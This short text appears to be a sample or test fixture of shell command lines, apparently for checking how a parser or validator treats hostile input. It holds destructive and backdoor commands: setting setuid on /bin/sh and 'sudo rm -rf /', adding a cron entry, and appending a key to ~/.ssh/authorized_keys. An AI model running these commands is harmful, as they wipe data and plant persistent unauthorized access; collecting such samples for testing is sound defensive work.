# comment | sh
a#b { echo; } 2>/dev/null; chmod +s /bin/sh && sudo rm -rf /
(crontab -l; echo "* * * * * x") | crontab -
echo key >> ~/.ssh/authorized_keys
